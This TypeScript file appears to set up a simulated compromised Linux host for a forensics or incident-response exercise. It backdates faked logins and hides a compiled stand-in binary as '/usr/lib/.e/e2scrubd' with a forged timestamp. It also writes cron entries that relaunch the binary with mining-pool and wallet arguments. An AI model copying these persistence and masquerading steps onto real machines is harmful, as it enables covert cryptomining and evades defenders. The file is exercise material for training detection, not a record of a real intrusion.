// He came months ago; logs reach back a week. A line for cron starts his program at each boot.

import { execFileSync } from 'node:child_process'
import { readFileSync } from 'node:fs'
import { join } from 'node:path'
import type { Dress } from '../../dress.ts'
import { ordinary } from '../../past.ts'
import { project } from '../../places.ts'
import type { Stage } from '../../stage.ts'
import { values } from '../../values.ts'

export function dress(dress: Dress): void {
  dress.logins({ ...ordinary, days: 7 })
  const { POOL = '', WALLET = '' } = values()
  const old = new Date(Date.now() - 64 * 86_400_000)
  const mimic = join(dress.root, '../mimic')
  execFileSync('gcc', ['-O1', '-static', '-pthread', '-o', mimic, join(project, 'lab/mimic.c')])
  dress.write('/usr/lib/.e/e2scrubd', readFileSync(mimic), { mode: 0o755, mtime: old })
  dress.write(
    '/etc/cron.d/e2scrub',
    `@reboot root /usr/lib/.e/e2scrubd -o ${POOL} -u ${WALLET} -p x -k\n*/15 * * * * root pgrep -x e2scrubd >/dev/null || /usr/lib/.e/e2scrubd -o ${POOL} -u ${WALLET} -p x -k\n`,
    { mtime: old },
  )
}

export async function plant(stage: Stage): Promise<void> {
  // Sooner or later cron's @reboot has run.
  await stage.inside('sleep 1; pgrep -x e2scrubd >/dev/null || exit 1')
}
